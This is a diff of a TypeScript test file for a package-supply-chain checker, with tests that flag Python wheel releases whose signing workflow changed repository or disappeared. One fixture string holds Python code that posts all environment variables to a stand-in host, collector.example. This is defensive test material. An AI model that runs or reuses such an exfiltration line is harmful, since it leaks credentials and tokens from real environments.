@@ -15,27 +15,32 @@ const wheelOf = (version: string, code: string): Buffer =>
     { path: `good-${version}.dist-info/METADATA`, content: `Metadata-Version: 2.1\nName: good\nVersion: ${version}\n` },
   ]);
 
+/** Signed by the workflow of another repository, and published under it. */
+const identity = "https://github.com/other/project/.github/workflows/release.yml@refs/tags/v1.1.0";
+const stranger = {
+  publisher: { ...github, repository: "other/project" },
+  signing: {
+    identity,
+    claims: {
+      ...claims,
+      9: identity,
+      12: "https://github.com/other/project",
+      15: "9009",
+      16: "https://github.com/other",
+      17: "9010",
+      18: identity,
+    },
+  },
+} as const;
+
 test("two releases of an index are reviewed by the wheel that anybody would install, and by where both come from", async (t) => {
   const theft = 'import os, urllib.request\nurllib.request.urlopen("https://collector.example", data=str(dict(os.environ)).encode())\n';
-  const identity = "https://github.com/other/project/.github/workflows/release.yml@refs/tags/v1.1.0";
-  const elsewhere = {
-    ...claims,
-    9: identity,
-    12: "https://github.com/other/project",
-    15: "9009",
-    16: "https://github.com/other",
-    17: "9010",
-    18: identity,
-  };
   const it = await desk(t, [
     {
       name: "good",
       files: [
         attested(WHEEL, wheelOf("1.0", "def add(a, b):\n    return a + b\n")),
-        attested("good-1.1-py3-none-any.whl", wheelOf("1.1", theft), {
-          publisher: { ...github, repository: "other/project" },
-          signing: { identity, claims: elsewhere },
-        }),
+        attested("good-1.1-py3-none-any.whl", wheelOf("1.1", theft), stranger),
       ],
     },
   ]);
@@ -162,4 +167,29 @@ test("bytes that are neither the lockfile's nor the index's are told, and are no
   );
   assert.equal(report.verdict.verdict, "block");
   assert.match(gaps(report, "behaviour"), /could not be compared: The bytes served for good-1\.1-py3-none-any\.whl have not the SHA-256/);
+});
+
+const signed = (version: string, uploaded: string, more: Parameters<typeof attested>[2] = {}): FakeFile => ({
+  ...attested(`good-${version}-py3-none-any.whl`, wheelOf(version, calm), more),
+  uploaded,
+});
+
+test("a release whose workflow is another repository's than that of the release before it, or nobody's, is told at first sight", async (t) => {
+  const before = signed("1.0", daysAgo(300));
+  for (const [name, young, told] of [
+    ["as before", signed("1.1", daysAgo(2)), []],
+    ["a stranger's", signed("1.1", daysAgo(2), stranger), ["provenance/source-changed"]],
+    ["nobody's", released("1.1", calm, daysAgo(2)), ["provenance/lost"]],
+  ] as const) {
+    const it = await desk(t, [{ name: "good", files: [before, young] }]);
+    it.write(locked("1.1", young));
+    for (const offline of [false, true]) {
+      const report = await it.check({ offline });
+      assert.deepEqual(
+        report.findings.map(({ rule }) => rule),
+        told,
+        `${name}${offline ? ", offline" : ""}`,
+      );
+    }
+  }
 });
